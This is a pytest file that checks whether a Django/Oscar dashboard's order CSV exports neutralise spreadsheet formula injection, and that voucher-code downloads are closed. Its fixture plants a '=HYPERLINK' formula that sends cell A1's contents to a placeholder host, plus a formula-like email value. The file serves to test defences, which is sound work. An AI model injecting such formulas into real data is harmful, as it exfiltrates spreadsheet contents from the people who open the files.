"""Oscar's dashboard CSVs (orders, reports, voucher codes) are downloads whose cells a
spreadsheet never runs as formulas (``marketplace.csv_export``)."""

import csv
import io

import pytest
from django.urls import reverse

from tests.staff.conftest import order_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def _cells(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]


def _assert_safe_download(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    cells = _cells(response)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    return cells


@pytest.fixture
def hostile_order(world):
    resident = world["a"]["resident"]
    resident.first_name, resident.last_name = FORMULA, ""
    resident.email = "=1+2@example.cn"
    resident.save()
    return order_in(world["a"]["community"], resident)


def test_the_order_list_download_is_neutralised(client, roles, hostile_order):
    client.force_login(roles["superuser"])
    response = client.get(reverse("dashboard:order-list"), {"response_format": "csv"})
    cells = _assert_safe_download(response)
    assert "'=1+2@example.cn" in cells


def test_the_order_report_download_is_neutralised(client, roles, hostile_order):
    client.force_login(roles["superuser"])
    response = client.get(
        reverse("dashboard:reports-index"),
        {"report_type": "order_report", "date_from": "", "date_to": "", "download": "true"},
    )
    cells = _assert_safe_download(response)
    assert "'" + FORMULA in cells


def test_no_voucher_codes_are_downloadable(client, roles, world):
    """Vouchers are not sold (the board is the price, see tests/integration/test_board_rule.py),
    so their codes' CSV is closed with the rest of the voucher pages, even to a superuser."""
    client.force_login(roles["superuser"])
    response = client.get(reverse("dashboard:voucher-set-download", args=[1]))
    assert response.status_code == 404
